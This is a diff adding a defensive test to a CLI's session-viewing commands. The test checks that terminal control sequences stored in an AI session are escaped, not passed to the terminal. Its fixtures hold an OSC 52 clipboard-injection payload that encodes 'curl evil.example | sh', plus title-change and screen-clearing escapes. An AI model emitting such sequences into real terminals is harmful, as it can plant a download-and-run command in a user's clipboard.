@@ -6,7 +6,7 @@ import { Command } from 'commander';
 import { registerSessionCommands } from '../../src/cli/sessions-command.js';
 import { JsonlSessionStore, replaySession } from '../../src/sessions/index.js';
 import { withTempDir } from '../helpers/temp-dir.js';
-import { META, appendAll, toolTurn } from './session-fixtures.js';
+import { META, appendAll, assistant, call, itemRecord, output, toolTurn } from './session-fixtures.js';
 
 interface Run {
   stdout: string;
@@ -126,6 +126,58 @@ describe('glassbox sessions / show / fork', () => {
         assert.match((error as Error).message, /it has 2 turns/);
         return true;
       });
+    });
+  });
+
+  it('prints no terminal control sequence the session holds: OSC 52, a title, CSI, an 8-bit C1 CSI', async () => {
+    await withTempDir(async (home) => {
+      // What a model (or a tool's output, or a prompt pasted from elsewhere) can put in a session.
+      const clipboard = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
+      const title = '\x1b]0;pwned\x07';
+      const csi = '\x1b[2J\x1b[1;1H';
+      const c1 = '\x9b2J\x9d0;c1 title\x9c';
+      const hostile = `answer ${clipboard}${title}${csi}${c1}\x00\x7f\u202e end`;
+      const store = new JsonlSessionStore(join(home, 'sessions'));
+      const writer = await store.create({ ...META, cwd: `/repos/${title}x`, model: `m${csi}` });
+      await appendAll(writer, [
+        ...toolTurn(1, `fix it ${title}`),
+        itemRecord(1, assistant(hostile, true)),
+        itemRecord(1, call('h1', `shell${csi}`, JSON.stringify({ command: `echo ${c1}` }))),
+        itemRecord(1, output('h1', 'shell', `out ${clipboard}`)),
+        { type: 'warning', turn: 1, code: 'X', message: `warned ${c1}` },
+      ]);
+      await writer.close();
+      // A torn-in line whose parse error quotes the raw bytes on stderr.
+      await appendFile(store.sessionPath(writer.sessionId), `\x1b]52;c;AAAA\x07\n{"type":"turn_started"}\n`);
+
+      // Everything but newline (and tab) in the C0 range, DEL, C1, and the bidi/line separators.
+      const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+      const readable = await glassbox(home, 'sessions', 'show', 'last');
+      const raw = await glassbox(home, 'sessions', 'show', 'last', '--json');
+      const table = await glassbox(home, 'sessions');
+      const list = await glassbox(home, 'sessions', '--json');
+      for (const [what, text] of Object.entries({
+        'show stdout': readable.stdout,
+        'show stderr': readable.stderr,
+        'show --json stdout': raw.stdout,
+        'show --json stderr': raw.stderr,
+        'sessions stdout': table.stdout,
+        'sessions --json stdout': list.stdout,
+      })) {
+        assert.ok(!CONTROL.test(text), `${what}: ${JSON.stringify(text)}`);
+      }
+      assert.match(readable.stderr, /invalid JSON/);
+      // Shown, not obeyed: the reader still sees what was there.
+      assert.ok(readable.stdout.includes('answer \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007'), readable.stdout);
+      assert.ok(readable.stdout.includes('\\u009b2J'), readable.stdout);
+      assert.ok(table.stdout.includes('\\e]0;pwned\\u0007'), table.stdout);
+      // The JSON stays the same JSON: every string parses back to the bytes on disk.
+      const records = raw.stdout
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line) as { item?: { content?: string } });
+      assert.ok(records.some((record) => record.item?.content === hostile));
+      assert.equal((JSON.parse(list.stdout) as { title: string }[])[0]!.title, `fix it ${title}`);
     });
   });
 
